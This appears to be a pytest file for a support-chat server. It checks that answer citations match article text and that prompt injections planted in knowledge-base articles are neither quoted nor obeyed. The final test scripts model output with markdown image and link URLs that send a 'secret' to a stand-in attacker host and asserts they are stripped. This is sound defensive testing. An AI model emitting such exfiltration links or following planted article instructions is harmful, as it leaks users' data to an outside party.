"""Answers over the wire rest on articles as they are: citations are true when given, and poison changes nothing."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Awaitable, Callable
from pathlib import Path

import pytest
from deskwire.v1 import chat_pb2, common_pb2, knowledge_pb2
from google.protobuf import field_mask_pb2

from deskwire_server import demo
from deskwire_server.knowledge.parse import clean_markdown, plain
from tests.support.postgres import TestPostgres
from tests.support.provider import ScriptedProvider
from tests.support.server import Client, Server, make_settings, new_tenant, running_server
from tests.support.waiting import until
from tests.unit.llm.injection.attacks import ATTACKS, HOST, MARK, Attack

QUESTION = "How long does a refund take?"
REFUNDS = "A refund takes five days to reach your card.\n\nIt goes to the card that was charged."
PLANTED = [attack for attack in ATTACKS if attack.place == "text"][::12]
DEMO = Path(demo.__file__).with_name("articles")
ASKED = (
    "How do I change my plan?", "Where do I find my invoices?", "How do I cancel?", "How do I invite a colleague?",
    "What does the API allow per minute?", "How do I reset my password?", "How do I connect Slack?",
    "How do I export my data?", "Who can see our billing?", "How do I set up two-factor authentication?",
)  # fmt: skip


@pytest.fixture
def provider() -> ScriptedProvider:
    """A model that cites its first passage, and one that there is not."""
    return ScriptedProvider(pieces=("Five days ", "[1] or so [9]."))


@pytest.fixture
async def scripted(postgres: TestPostgres, provider: ScriptedProvider) -> AsyncIterator[Server]:
    """A worker that answers by the scripted model."""
    async with running_server(make_settings(postgres), provider=provider) as running:
        yield running


@pytest.fixture
async def builtin(postgres: TestPostgres) -> AsyncIterator[Server]:
    """A worker that answers by quoting."""
    async with running_server(make_settings(postgres, builtin_pace=0.0)) as running:
        yield running


def admin_of(server: Server) -> Client:
    return server.client(tenant=new_tenant(), user="cleo", role="admin")


async def write(admin: Client, title: str, content: str) -> knowledge_pb2.Article:
    article = knowledge_pb2.Article(title=title, content=content, language="en")
    request = knowledge_pb2.CreateArticleRequest(article=article)
    return (await admin.knowledge.CreateArticle(request, metadata=admin.metadata, timeout=10)).article


async def rewrite(admin: Client, article_id: str, content: str) -> None:
    request = knowledge_pb2.UpdateArticleRequest(
        article=knowledge_pb2.Article(id=article_id, content=content),
        update_mask=field_mask_pb2.FieldMask(paths=["content"]),
    )
    await admin.knowledge.UpdateArticle(request, metadata=admin.metadata, timeout=10)


async def ask(client: Client, text: str = QUESTION) -> common_pb2.Message:
    request = chat_pb2.ChatRequest(message=chat_pb2.UserMessage(text=text))
    return (await client.chat.Chat(request, metadata=client.metadata, timeout=20)).message


async def content_of(admin: Client, article_id: str) -> str:
    request = knowledge_pb2.GetArticleRequest(article_id=article_id)
    return (await admin.knowledge.GetArticle(request, metadata=admin.metadata, timeout=10)).article.content


async def assert_true(admin: Client, citation: common_pb2.Citation) -> None:
    """The citation's span stands in the article as it is, and is what the citation shows."""
    content = await content_of(admin, citation.article_id)
    assert 0 <= citation.start_offset < citation.end_offset <= len(content)
    shown = " ".join(plain(content[citation.start_offset : citation.end_offset]).split())
    snippet = citation.snippet.removesuffix("…")
    assert snippet
    assert shown.startswith(snippet)


async def asked_while(
    provider: ScriptedProvider, admin: Client, change: Callable[[], Awaitable[object]]
) -> common_pb2.Message:
    """The answer to a question whose passages were found before `change` and cited after it."""
    provider.gate = asyncio.Event()
    answer = asyncio.create_task(ask(admin))
    await until(lambda: bool(provider.requests))
    assert [passage.number for passage in provider.requests[0].passages] == [1]
    await change()
    provider.gate.set()
    return await answer


async def test_a_citation_follows_its_passage_when_the_article_grows(
    scripted: Server, provider: ScriptedProvider
) -> None:
    admin = admin_of(scripted)
    article = await write(admin, "Refunds", REFUNDS)
    longer = f"We are glad that you ask.\n\n{REFUNDS}"
    message = await asked_while(provider, admin, lambda: rewrite(admin, article.id, longer))
    (citation,) = message.answer.citations
    assert citation.start_offset == longer.index("A refund")
    await assert_true(admin, citation)
    assert message.text == "Five days [1] or so."
    assert message.answer.grounded


async def test_a_citation_is_dropped_when_its_passage_is_rewritten(
    scripted: Server, provider: ScriptedProvider
) -> None:
    admin = admin_of(scripted)
    article = await write(admin, "Refunds", REFUNDS)
    message = await asked_while(provider, admin, lambda: rewrite(admin, article.id, "We give no refunds any more."))
    assert not message.answer.citations
    assert not message.answer.grounded
    assert message.answer.confidence < 0.5


async def test_a_citation_is_dropped_when_its_article_is_deleted(scripted: Server, provider: ScriptedProvider) -> None:
    admin = admin_of(scripted)
    article = await write(admin, "Refunds", REFUNDS)
    request = knowledge_pb2.DeleteArticleRequest(article_id=article.id)
    message = await asked_while(
        provider, admin, lambda: admin.knowledge.DeleteArticle(request, metadata=admin.metadata, timeout=10)
    )
    assert not message.answer.citations
    assert not message.answer.grounded


async def test_citations_of_the_demo_are_true(builtin: Server) -> None:
    admin = admin_of(builtin)
    for path in sorted(DEMO.rglob("*.md")):
        text, _ = clean_markdown(path.read_text(encoding="utf-8"))
        await write(admin, path.stem, text)
    cited = 0
    for question in ASKED:
        for citation in (await ask(admin, question)).answer.citations:
            await assert_true(admin, citation)
            cited += 1
    assert cited >= len(ASKED) // 2


@pytest.mark.parametrize("attack", PLANTED, ids=lambda attack: attack.name)
async def test_a_planted_order_is_neither_quoted_nor_obeyed(builtin: Server, attack: Attack) -> None:
    admin = admin_of(builtin)
    await write(admin, "Download an invoice", "Open **Settings → Billing** and click the date to download an invoice.")
    await write(admin, "Invoices", f"All about how to download an invoice.\n\n{attack.text}")
    message = await ask(admin, "How do I download an invoice?")
    assert MARK not in message.text
    assert HOST not in message.text
    assert MARK not in "".join(map(str, (*message.answer.actions, *message.answer.follow_up_questions)))


async def test_links_that_a_model_invents_do_not_reach_the_client(scripted: Server, provider: ScriptedProvider) -> None:
    admin = admin_of(scripted)
    await write(admin, "Refunds", f"{REFUNDS}\n\nSee https://help.example.com/refunds.")
    provider.pieces = (
        "See [the page](https://help.example.com/refunds) [1]. ![x](https://", f"{HOST}/p?q=secret) [more](https://{HOST}",
        f"/steal) or https://{HOST}/a <img src=https://{HOST}/b>!",
    )  # fmt: skip
    message = await ask(admin)
    assert message.text == "See [the page](https://help.example.com/refunds) [1]. x more or … !"
